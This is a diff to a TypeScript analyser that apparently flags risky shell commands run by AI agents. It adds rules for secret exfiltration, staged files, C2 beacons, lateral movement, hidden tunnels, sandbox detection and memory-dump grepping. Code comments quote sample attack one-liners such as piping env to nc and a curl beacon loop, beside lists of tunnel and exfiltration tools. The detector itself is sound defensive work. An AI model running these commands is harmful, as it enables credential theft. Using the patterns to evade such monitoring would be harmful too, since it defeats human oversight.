@@ -11,7 +11,38 @@ const SOFT_SECRET = /(?:^|\/)(?:[^/]{0,40}(?:secret|passw(?:or)?d|credential|tok
 const TOKEN_PRODUCER = /^(?:az account get-access-token|gcloud auth print-(?:access|identity)-token|gh auth token|aws (?:sts get-session-token|ecr get-login-password|configure export-credentials)|vault (?:read|kv get)|op (?:read|item get)|bw get|kubectl get secrets?|security find-(?:generic|internet)-password|secret-tool lookup|pass show|doppler secrets|infisical secrets|sops -d|sops --decrypt)/;
 const DNS_TOOLS: ReadonlySet<string> = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6", "curl", "wget", "nc"]);
 const PROCESS_OF_INTEREST = /(?:agentshield|crowdstrike|falcon|falco|sentinel|\bedr\b|guardrail|auditd|osquery|wazuh|sysmon|defender|claude|autogpt|crewai|langchain|autogen|openai|anthropic|copilot|cursor|codex|aider)/i;
-const SECRET_WORD = /(?:pass(?:word|wd)?|secret|token|api[_-]?key|credential|private|aws_secret)/i;
+const SECRET_WORD = /(?:pass(?:word|wd)?|secret|token|api[_-]?key|credential|private|aws_secret|authorization|bearer|cookie|session[_-]?id)/i;
+
+/** Whole homes and /etc: an archive or copy of one carries every credential in it. */
+const SENSITIVE_TREE = /^(?:~|~\/\*|~\/\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?|\/home(?:\/[^/.][^/]{0,40})?|\/home\/\*|\/Users(?:\/[^/.][^/]{0,40})?|\/Users\/\*|\/root|\/etc|\/)\/?$/;
+const ARCHIVERS: ReadonlySet<string> = new Set(["tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zz", "rar", "cpio", "pax", "ditto", "rsync", "cp"]);
+/** Screen, camera, microphone and clipboard readers: what they capture is the user's data. */
+const CAPTURE_TOOLS: ReadonlySet<string> = new Set(["screencapture", "import", "xwd", "scrot", "gnome-screenshot", "spectacle", "grim", "maim", "imagesnap", "fswebcam", "arecord", "parecord", "parec", "pw-record", "wf-recorder", "flameshot"]);
+const CLIPBOARD_READ = (c: SimpleCmd): boolean => c.exe === "pbpaste" || c.exe === "wl-paste" || (c.exe === "xclip" && c.args.some((a) => a === "-o" || a === "-out")) || (c.exe === "xsel" && c.args.some((a) => /^-(?:o|-output|[a-z]{0,3}o)$/.test(a)));
+const isCapture = (c: SimpleCmd): boolean => CAPTURE_TOOLS.has(c.exe) || (c.exe === "ffmpeg" && c.args.some((a, k) => a === "-f" && /^(?:x11grab|avfoundation|gdigrab|kmsgrab|v4l2|video4linux2|alsa|pulse|dshow|pipewire)$/.test(c.args[k + 1] ?? "")));
+/** System-description sources whose output, grepped for hypervisor names, detects a sandbox. */
+const HW_INFO: ReadonlySet<string> = new Set(["dmidecode", "ioreg", "system_profiler", "lscpu", "lspci", "lsmod", "kldstat", "kextstat", "sysctl", "systemd-detect-virt", "virt-what", "hostnamectl", "lsusb", "lshw", "dmesg"]);
+const VM_VENDOR = /virtualbox|vbox|vmware|vmw|parallels|qemu|hyper-?v|bochs|innotek|vmm/i;
+/** Memory images: core dumps, heap dumps, raw memory. */
+const MEMORY_IMAGE = /(?:\.(?:core|dmp|mdmp|mem|vmem|raw|lime|bin)$|(?:^|\/)core\.[0-9]{1,8}$|^\/proc\/[^/]{1,40}\/mem$|^\/dev\/(?:k?mem|fmem)$)/i;
+
+const HISTORY_FILE = /(?:_history|\/\.history|\/\.zhistory|fish_history)$/;
+const SEARCHERS: ReadonlySet<string> = new Set(["grep", "egrep", "fgrep", "zgrep", "rg", "ag", "ack", "awk", "gawk", "sed", "jq"]);
+const LOG_PATH = /^(?:\/var\/log\/|\/var\/lib\/docker\/containers\/|\/private\/var\/log\/|\/Library\/Logs\/|~\/Library\/Logs\/)|\.log(?:\.[0-9]{1,3})?(?:\.gz)?$/;
+const LOG_READERS: ReadonlySet<string> = new Set(["cat", "zcat", "tail", "head", "less", "more", "strings", "tac", "bzcat", "xzcat"]);
+
+/** Where logs come from: log daemons, container and CI logs, cloud log APIs, log files. */
+function isLogSource(c: SimpleCmd): boolean {
+  const a0 = c.args[0] ?? "";
+  if (c.exe === "journalctl" || c.exe === "dmesg" || c.exe === "stern") return true;
+  if ((c.exe === "docker" || c.exe === "podman" || c.exe === "kubectl" || c.exe === "oc" || c.exe === "nerdctl") && (a0 === "logs" || (a0 === "compose" && c.args[1] === "logs"))) return true;
+  if (c.exe === "gh" && a0 === "run" && c.args.some((a) => a === "--log" || a === "--log-failed")) return true;
+  if (c.exe === "glab" && a0 === "ci" && c.args[1] === "trace") return true;
+  if (c.exe === "log" && (a0 === "show" || a0 === "stream")) return true;
+  if (c.exe === "aws" && a0 === "logs") return true;
+  if (c.exe === "gcloud" && a0 === "logging") return true;
+  return LOG_READERS.has(c.exe) && c.args.some((a) => !a.startsWith("-") && LOG_PATH.test(a));
+}
 
 const SECRET_MEMO = new WeakMap<SimpleCmd, "hard" | "soft" | "none">();
 
@@ -27,10 +58,14 @@ function readsSecretUncached(c: SimpleCmd): "hard" | "soft" | undefined {
   if (TOKEN_PRODUCER.test(`${c.exe} ${c.args.slice(0, 4).join(" ")}`)) return "hard";
   if (c.exe === "printenv" || c.exe === "env" || (c.exe === "export" && c.args.includes("-p"))) return "soft";
   if (cands.some((p) => SOFT_SECRET.test(p) || matchPath(p, "read").length > 0)) return "soft";
+  if (ARCHIVERS.has(c.exe) && archiveSources(c).some((p) => SENSITIVE_TREE.test(p))) return "soft";
+  if (isCapture(c) || CLIPBOARD_READ(c)) return "soft";
   return undefined;
 }
 
-const isNet = (ctx: Ctx, i: number): boolean => ctx.cmdIntents[i]?.has("network-egress") ?? false;
+/** Senders the semantic layer does not class as network clients: mail, file transfer, whois. */
+const EXTRA_SINKS: ReadonlySet<string> = new Set(["mail", "mailx", "mutt", "sendmail", "swaks", "msmtp", "ssmtp", "ftp", "tftp", "lftp", "ncftpput", "smbclient", "whois", "croc", "ffsend", "wormhole", "megaput", "mega-put", "b2", "mc", "oci", "azcopy"]);
+const isNet = (ctx: Ctx, i: number): boolean => (ctx.cmdIntents[i]?.has("network-egress") ?? false) || EXTRA_SINKS.has(ctx.parsed.cmds[i]?.exe ?? "");
 /** A shell/interpreter that takes its program from stdin (no script operand). */
 const runsStdin = (c: SimpleCmd): boolean => ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe)) && c.args.every((a) => a.startsWith("-") || a === "/dev/stdin" || a === "/dev/fd/63")) || ((c.exe === "source" || c.exe === ".") && (c.args[0] === "/dev/fd/63" || c.args[0] === "/dev/stdin"));
 
@@ -46,11 +81,15 @@ export function dataflow(ctx: Ctx): void {
     let secret: "hard" | "soft" | undefined;
     let net = false;
     let history = false;
+    let logs = false;
     let ps = false;
+    let memImage = false;
+    let hw = false;
     for (const i of idxs) {
       const c = ctx.parsed.cmds[i] as SimpleCmd;
       const here = readsSecret(c);
-      if (isNet(ctx, i) && (secret !== undefined || here === "hard")) {
+      const stdinSoft = here === "soft" && EXTRA_SINKS.has(c.exe) && c.redirs.some((r) => r.op === "<");
+      if (isNet(ctx, i) && (secret !== undefined || here === "hard" || stdinSoft)) {
         addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `sensitive data flows into network tool '${redactPreview(c.exe, 16)}'`, cmd: c });
         ctx.intents.add("network-egress");
       }
@@ -58,12 +97,21 @@ export function dataflow(ctx: Ctx): void {
         addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.download-exec", decision: "block", taxonomy: "unauthorized-execution/remote-code/download-and-execute", description: `network output is executed by '${redactPreview(c.exe, 16)}'`, cmd: c });
         ctx.intents.add("code-execute");
       }
-      if (history && c.exe === "grep" && c.args.some((a) => SECRET_WORD.test(a)))
-        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.history-secret-grep", decision: "block", taxonomy: "credential-exposure/history-mining/history-credential-grep", description: "shell history searched for secrets", cmd: c });
-      if (c.exe === "history" || c.args.some((a) => /_history$/.test(a)) || (c.exe === "git" && /^(?:log|show|diff|reflog)$/.test(c.args[0] ?? "") && c.args.some((a) => a === "-p" || a === "--patch" || a === "--all"))) history = true;
+      if ((history || logs) && SEARCHERS.has(c.exe) && c.args.some((a) => SECRET_WORD.test(a)))
+        addFinding(ctx, history
+          ? { layer: "dataflow", rule_id: "shell.flow.history-secret-grep", decision: "block", taxonomy: "credential-exposure/history-mining/history-credential-grep", description: "shell history searched for secrets", cmd: c }
+          : { layer: "dataflow", rule_id: "shell.flow.log-secret-grep", decision: "block", taxonomy: "credential-exposure/history-mining/log-credential-grep", description: "logs searched for secrets", cmd: c });
+      if (c.exe === "history" || c.args.some((a) => HISTORY_FILE.test(a)) || (c.exe === "git" && /^(?:log|show|diff|reflog)$/.test(c.args[0] ?? "") && c.args.some((a) => a === "-p" || a === "--patch" || a === "--all"))) history = true;
+      if (isLogSource(c)) logs = true;
       if (ps && (c.exe === "grep" || c.exe === "egrep" || c.exe === "rg") && c.args.some((a) => PROCESS_OF_INTEREST.test(a)))
         addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.process-discovery", decision: "audit", taxonomy: "reconnaissance/system-discovery/process-enumeration", description: "process list searched for security tools or AI agents", cmd: c });
       if (c.exe === "ps" || c.exe === "top" || c.exe === "htop") ps = true;
+      if (memImage && (c.exe === "grep" || c.exe === "egrep" || c.exe === "rg") && c.args.some((a) => SECRET_WORD.test(a) || /^-?(?:pass|pwd|BEGIN)/i.test(a)))
+        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.memory-secret-grep", decision: "block", taxonomy: "credential-exposure/process-credential/process-memory-dump", description: "a memory image is searched for passwords or keys", cmd: c });
+      if ((c.exe === "strings" || c.exe === "cat" || c.exe === "xxd" || c.exe === "hexdump" || c.exe === "od") && c.args.some((a) => MEMORY_IMAGE.test(a))) memImage = true;
+      if (hw && (c.exe === "grep" || c.exe === "egrep" || c.exe === "rg") && c.args.some((a) => VM_VENDOR.test(a)))
+        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.vm-detection", decision: "audit", taxonomy: "reconnaissance/system-discovery/sandbox-detection", description: "hardware details searched for hypervisor names (sandbox detection)", cmd: c });
+      if (HW_INFO.has(c.exe) || (c.args.some((a) => /^\/(?:sys\/class\/dmi\/id\/|proc\/(?:scsi\/scsi|modules|cpuinfo)$)/.test(a)))) hw = true;
       if (here !== undefined && (secret === undefined || here === "hard")) secret = here;
       if (isNet(ctx, i)) net = true;
     }
@@ -85,7 +133,9 @@ export function dataflow(ctx: Ctx): void {
     if (DNS_TOOLS.has(net.exe) && net.dynamicArgs && (net.args.some((a) => (/\$\(|`/.test(a) && /\.[a-z]{2,}/i.test(a)) || /\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?\.[A-Za-z0-9-]{1,63}\.[A-Za-z]{2,}/.test(a)) || (net.exe.startsWith("ping") && net.args.some((a, k) => a === "-p" && /\$/.test(net.args[k + 1] ?? "")))))
       addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.dns-exfil", decision: "block", taxonomy: "data-exfiltration/covert-channel/dns-exfiltration", description: "command output encoded into a DNS query", cmd: net });
   });
+  taintedVariables(ctx);
   stagedSecrets(ctx, byPipe);
+  lateral(ctx);
   // `bash -c "$(curl …)"`, `eval "$(wget -O- …)"`, `python3 -c "$(curl …)"`.
   for (const c of ctx.parsed.cmds) {
     if ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe) || c.exe === "eval" || c.exe === "source" || c.exe === ".") && [...c.args, c.script ?? ""].some((a) => /\$\((?:[^)]{0,40}\/)?(?:curl|wget|fetch)\b|`(?:curl|wget)\b|<\(\s{0,4}(?:curl|wget)\b/.test(a)))
@@ -93,35 +143,171 @@ export function dataflow(ctx: Ctx): void {
   }
 }
 
-/** Files written by a pipeline: redirect targets and tee operands. */
+/** Files written by a pipeline: redirect targets, tee operands and archiver/copier outputs. */
 function pipelineWrites(ctx: Ctx, idxs: readonly number[]): string[] {
   const out: string[] = [];
   for (const i of idxs) {
     const c = ctx.parsed.cmds[i] as SimpleCmd;
     for (const r of c.redirs) if (r.op === ">" || r.op === ">>" || r.op === ">|" || r.op === "&>" || r.op === "&>>") out.push(r.target);
     if (c.exe === "tee") for (const a of c.args) if (!a.startsWith("-")) out.push(a);
+    const o = archiveOutput(c);
+    if (o !== undefined) out.push(o);
   }
-  return out.filter((t) => t.length > 0 && !/^\d+$/.test(t) && !t.startsWith("/dev/"));
+  return out.filter((t) => t.length > 0 && !/^\d+$/.test(t) && !t.startsWith("/dev/") && t !== "-");
 }
+
+/** Does a command name this file (operand, @file, --opt=file, stdin redirect, or a directory holding it)? */
+const names = (c: SimpleCmd, file: string): boolean => [...c.args, ...c.redirs.filter((r) => r.op === "<").map((r) => r.target)].some((a) => a === file || a.endsWith(`@${file}`) || a.endsWith(`=${file}`) || a.endsWith(`=@${file}`) || (file.startsWith(a.endsWith("/") ? a : `${a}/`) && a.length > 4 && a.startsWith("/")));
 
 /**
  * Secrets staged in a file and sent later in the same script: `env > /tmp/e; nc host 4444 <
- * /tmp/e`, `cat .env | base64 > /tmp/x && wget --post-file=/tmp/x …`. A pipeline that reads a
- * secret (hard or soft) and writes a file taints that file; a later network command that names
- * it (operand, @file, --post-file=, stdin redirect) is exfiltration.
+ * /tmp/e`, `cat .env | base64 > /tmp/x && wget --post-file=/tmp/x …`, `tar czf /tmp/h.tgz ~;
+ * openssl enc -in /tmp/h.tgz -out /tmp/h.enc; curl -T /tmp/h.enc …`. A pipeline that reads a
+ * secret (hard or soft) or an already tainted file taints what it writes; a later network
+ * command that names a tainted file is exfiltration.
  */
 function stagedSecrets(ctx: Ctx, byPipe: Map<number, number[]>): void {
   const tainted: { file: string; pipe: number }[] = [];
-  for (const [pipe, idxs] of byPipe) {
-    if (!idxs.some((i) => readsSecret(ctx.parsed.cmds[i] as SimpleCmd) !== undefined)) continue;
+  const pipes = [...byPipe.entries()].sort((a, b) => (ctx.parsed.cmds[a[1][0] as number]?.span.start ?? 0) - (ctx.parsed.cmds[b[1][0] as number]?.span.start ?? 0));
+  for (const [pipe, idxs] of pipes) {
+    const reads = idxs.some((i) => { const c = ctx.parsed.cmds[i] as SimpleCmd; return readsSecret(c) !== undefined || tainted.some((t) => t.pipe !== pipe && names(c, t.file)); });
+    if (!reads) continue;
     for (const f of pipelineWrites(ctx, idxs)) tainted.push({ file: f, pipe });
   }
   if (tainted.length === 0) return;
   ctx.parsed.cmds.forEach((c, i) => {
     if (!isNet(ctx, i)) return;
-    const names = [...c.args, ...c.redirs.filter((r) => r.op === "<").map((r) => r.target)];
-    const hit = tainted.find((t) => t.pipe !== c.pipe && names.some((a) => a === t.file || a.endsWith(`@${t.file}`) || a.endsWith(`=${t.file}`) || a.endsWith(`=@${t.file}`)));
+    const hit = tainted.find((t) => t.pipe !== c.pipe && names(c, t.file));
     if (hit !== undefined)
       addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.staged-secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `a file holding sensitive data is sent by '${redactPreview(c.exe, 16)}'`, cmd: c });
+  });
+}
+
+/**
+ * `K=$(cat ~/.aws/credentials); curl -d "$K" …`: a variable assigned from a secret-reading
+ * substitution carries it into any later network command that expands the variable.
+ */
+function taintedVariables(ctx: Ctx): void {
+  const cmds = ctx.parsed.cmds;
+  const vars = new Set<string>();
+  if (!cmds.some((c) => c.assigns.length > 0 && c.via.length === 0 && ctx.parsed.source.includes("$("))) return;
+  cmds.forEach((c, i) => {
+    if (c.assigns.length > 0 && (c.exe === "" || c.exe === "export" || c.exe === "local" || c.exe === "declare" || c.exe === "readonly")) {
+      const inner = cmds.filter((x) => x.depth > c.depth && x.via.includes("$()") && x.span.start >= c.span.start && x.span.end <= c.span.end);
+      if (inner.some((x) => readsSecret(x) !== undefined)) for (const a of c.assigns) vars.add(a.name);
+    }
+    if (vars.size === 0 || !isNet(ctx, i)) return;
+    const text = ctx.parsed.source.slice(c.span.start, c.span.end);
+    for (const v of vars)
+      if (new RegExp(`\\$\\{?${v}\\b`).test(text)) {
+        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `a variable holding sensitive data is sent by '${redactPreview(c.exe, 16)}'`, cmd: c });
+        return;
+      }
+  });
+}
+
+/** What an archiver or copier reads: every operand but its output. */
+function archiveSources(c: SimpleCmd): string[] {
+  const ops = c.args.filter((a) => !a.startsWith("-"));
+  if (c.exe === "cp" || c.exe === "rsync" || c.exe === "ditto") return ops.slice(0, -1);
+  const out = archiveOutput(c);
+  return ops.filter((a) => a !== out && !/^[a-z]{1,4}$/.test(a));
+}
+
+/** The file an archiver, encrypter, copier or capture tool writes (not through a redirect). */
+function archiveOutput(c: SimpleCmd): string | undefined {
+  const a = c.args;
+  const after = (...flags: string[]): string | undefined => { for (let k = 0; k < a.length; k++) { const x = a[k] ?? ""; for (const f of flags) { if (x === f) return a[k + 1]; if (f.startsWith("--") && x.startsWith(`${f}=`)) return x.slice(f.length + 1); } } return undefined; };
+  switch (c.exe) {
+    case "tar": case "gtar": case "bsdtar": {
+      const f = after("-f", "--file");
+      if (f !== undefined) return f;
+      // `tar czf out.tgz …` and `tar -czvf out.tgz …`: the f in a bundled flag word takes the next word.
+      const k = a.findIndex((x) => /^-?[a-zA-Z]{0,8}f$/.test(x) && /c/.test(x));
+      return k >= 0 ? a[k + 1] : undefined;
+    }
+    case "zip": return a.find((x) => !x.startsWith("-"));
+    case "7z": case "7za": case "7zz": case "rar": return a[0] === "a" ? a.find((x, k) => k > 0 && !x.startsWith("-")) : undefined;
+    case "openssl": case "gpg": case "age": return after("-out", "-o", "--output");
+    case "cp": case "mv": case "ditto": case "rsync": case "split": { const ops = a.filter((x) => !x.startsWith("-")); return ops.length >= 2 ? ops[ops.length - 1] : undefined; }
+    case "base64": case "xxd": return after("-o", "--output");
+    default: return isCapture(c) ? [...a].reverse().find((x) => !x.startsWith("-") && /[./]/.test(x) && !/^:[0-9]/.test(x)) : undefined;
+  }
+}
+
+const TUNNELS: ReadonlySet<string> = new Set(["ngrok", "cloudflared", "devtunnel", "bore", "frpc", "chisel", "zrok", "loclx", "tunnelto", "pagekite", "pagekite.py", "tmole", "rathole", "gost", "wstunnel", "autossh", "socat", "ligolo-agent", "iodine", "dns2tcpc"]);
+const SSH_EXES = /^(?:ssh|scp|sftp|rsync|sshpass|autossh|mosh)$/;
+/** The remote host an ssh/scp/rsync command names: first `user@host` or `host:` word that is not an option value. */
+function remoteHost(c: SimpleCmd): string | undefined {
+  const a = c.exe === "sshpass" ? c.args.slice(c.args.findIndex((x) => SSH_EXES.test(x)) + 1) : c.args;
+  for (let k = 0; k < a.length; k++) {
+    const x = a[k] ?? "";
+    if (x.startsWith("-")) { if (/^-[ioplFJEcmSRLDWbBeO]$/.test(x)) k++; continue; }
+    const m = /^(?:[^@/\s]{1,64}@)?([^:/\s]{1,255})(?::|$)/.exec(x);
+    if (c.exe === "ssh" || c.exe === "autossh" || c.exe === "mosh" || x.includes(":")) return m?.[1];
+  }
+  return undefined;
+}
+
+/**
+ * Movement between machines: remote commands run over a host list, tooling pushed to another
+ * host's temp dir and then run there, remote archives of /etc or homes streamed back, pushes
+ * of the repository to a remote the script just added, beacons that report host identity.
+ */
+function lateral(ctx: Ctx): void {
+  const cmds = ctx.parsed.cmds;
+  const pushed: { host: string; path: string; base: string }[] = [];
+  const newRemotes = new Set<string>();
+  cmds.forEach((c, i) => {
+    const isSsh = SSH_EXES.test(c.exe);
+    if (isSsh && c.inLoop !== "" && c.dynamicArgs && c.depth === 0) {
+      const host = remoteHost(c) ?? "";
+      const hard = c.exe === "sshpass" || /StrictHostKeyChecking[ =]?no|UserKnownHostsFile[ =]?\/dev\/null|BatchMode/i.test(c.args.join(" ")) || /^(?:[0-9]{1,3}\.){3}\$/.test(host) || /(?:^|\.)\$\{?[A-Za-z_]{1,20}\}?$/.test(host) && /[0-9]\./.test(host);
+      addFinding(ctx, { layer: "dataflow", rule_id: hard ? "shell.flow.remote-exec-sweep" : "shell.flow.remote-exec-loop", decision: hard ? "block" : "audit", taxonomy: "unauthorized-execution/lateral-movement/host-list-remote-exec", description: hard ? "remote logins swept over a host list without host-key or password prompts" : "remote commands run over a list of hosts", cmd: c });
+    }
+    // `scp tool host:/tmp/` … `ssh host /tmp/tool`: dropped, then run.
+    if ((c.exe === "scp" || c.exe === "rsync" || c.exe === "sshpass") && c.depth === 0) {
+      const ops = c.args.filter((a) => !a.startsWith("-"));
+      const dest = ops.at(-1) ?? "";
+      const m = /^(?:[^@\s]{1,64}@)?([^:\s]{1,255}):((?:\/tmp|\/dev\/shm|\/var\/tmp|~?\/?\.)[^\s]{0,200})$/.exec(dest);
+      const base = (ops.at(-2) ?? "").split("/").at(-1) ?? "";
+      if (m?.[1] && m[2] !== undefined && ops.length >= 2) pushed.push({ host: m[1], path: m[2].endsWith("/") ? `${m[2]}${base}` : m[2], base: m[2].endsWith("/") ? base : m[2].split("/").at(-1) ?? "" });
+    }
+    if (c.via.at(-1) === "ssh" && c.depth > 0 && pushed.length > 0) {
+      const parent = cmds.slice(0, i).reverse().find((p) => p.depth < c.depth && (p.exe === "ssh" || p.exe === "sshpass"));
+      const host = parent ? remoteHost(parent) : undefined;
+      // Run as the program, or handed to a shell/interpreter as its script.
+      const runs = SHELLS.has(c.exe) || INTERPRETERS.has(c.exe) || c.exe === "nohup" || c.exe === "setsid" ? [c.rawExe, ...c.args.filter((a) => !a.startsWith("-"))] : [c.rawExe];
+      const same = (r: string, p: { path: string; base: string }): boolean => p.base !== "" && (r === p.path || r === p.base || r === `./${p.base}` || r.endsWith(`/${p.base}`));
+      if (pushed.some((p) => (host === undefined || host === p.host) && runs.some((r) => same(r, p))))
+        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.remote-tool-exec", decision: "block", taxonomy: "unauthorized-execution/lateral-movement/remote-tool-transfer-exec", description: "a file copied to another host's temp directory is run there", cmd: c });
+    }
+    // `ssh host 'tar czf - /etc' > etc.tgz`: another machine's secrets pulled back here.
+    if (c.via.includes("ssh") && c.depth > 0) {
+      const create = (c.exe === "tar" || c.exe === "gtar" || c.exe === "bsdtar") && c.args.some((a) => /^-?[a-zA-Z]{0,8}c[a-zA-Z]{0,8}$/.test(a) || a === "--create");
+      const sibling = cmds.slice(0, i).reverse().find((p) => p.depth === c.depth && p.exe === "cd");
+      const srcs = ARCHIVERS.has(c.exe) ? archiveSources(c) : [];
+      const inTree = sibling !== undefined && SENSITIVE_TREE.test(sibling.args[0] ?? "") && srcs.some((a) => a === "*" || a === "." || a === "./");
+      if ((create && (srcs.some((a) => SENSITIVE_TREE.test(a) || /^\/(?:etc|home|Users|root)(?:\/|$)/.test(a)) || inTree)) || (c.exe === "dd" && c.args.some((a) => /^if=\/dev\/(?:sd|nvme|xvd|vd|disk|hd|mmcblk)/.test(a))))
+        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.remote-archive-pull", decision: "block", taxonomy: "data-exfiltration/collection/remote-archive-pull", description: "system or home directories archived on a remote host and streamed back", cmd: c });
+    }
+    if (c.exe === "git" && c.args[0] === "remote" && (c.args[1] === "add" || c.args[1] === "set-url") && c.args[2]) newRemotes.add(c.args[2]);
+    if (c.exe === "git" && c.args[0] === "push") {
+      const ops = c.args.slice(1).filter((a) => !a.startsWith("-"));
+      const toNew = ops[0] !== undefined && newRemotes.has(ops[0]) && ops[0] !== "origin";
+      const toUrl = ops[0] !== undefined && /^(?:https?:\/\/|git@|ssh:\/\/)/.test(ops[0]) && c.args.some((a) => a === "--mirror" || a === "--all");
+      if (toNew || toUrl)
+        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.push-new-remote", decision: "audit", taxonomy: "data-exfiltration/version-control/push-to-new-remote", description: "the repository is pushed to a remote added in the same script", cmd: c });
+    }
+    // `while true; do curl "https://c2/beat?h=$(hostname)"; sleep 60; done`: a beacon.
+    if (c.inLoop === "infinite" && isNet(ctx, i) && /\$\((?:hostname|whoami|id|uname|cat \/etc\/(?:hostname|machine-id))\b|\$\{?(?:HOSTNAME|USER|LOGNAME)\}?/.test(ctx.parsed.source.slice(c.span.start, c.span.end)))
+      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.beacon", decision: "block", taxonomy: "unauthorized-execution/remote-access/c2-beacon", description: "an endless loop reports this host's identity over the network", cmd: c });
+    if (c.via.some((v) => v === "torsocks" || v === "proxychains" || v === "proxychains4" || v === "tsocks"))
+      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.anonymized-traffic", decision: "audit", taxonomy: "unauthorized-execution/remote-access/anonymizing-proxy", description: `'${redactPreview(c.exe, 16)}' is routed through Tor or a proxy chain`, cmd: c });
+    // A tunnel client dropped in a temp dir, or detached with its output thrown away.
+    if (TUNNELS.has(c.exe) && (/^(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\/private\/tmp\/)/.test(c.rawExe) || /\/\.[^/]{1,40}\//.test(c.rawExe) || ((c.via.includes("nohup") || c.via.includes("setsid") || c.background) && c.redirs.some((r) => r.target === "/dev/null"))))
+      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.hidden-tunnel", decision: "block", taxonomy: "unauthorized-execution/remote-access/public-tunnel", description: `tunnel client '${redactPreview(c.exe, 16)}' runs from a staging path or detached and silenced`, cmd: c });
+    if (c.inLoop === "infinite" && (isCapture(c) || CLIPBOARD_READ(c)))
+      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.capture-loop", decision: "block", taxonomy: "reconnaissance/collection/continuous-capture", description: "screen, microphone or clipboard captured in an endless loop", cmd: c });
   });
 }
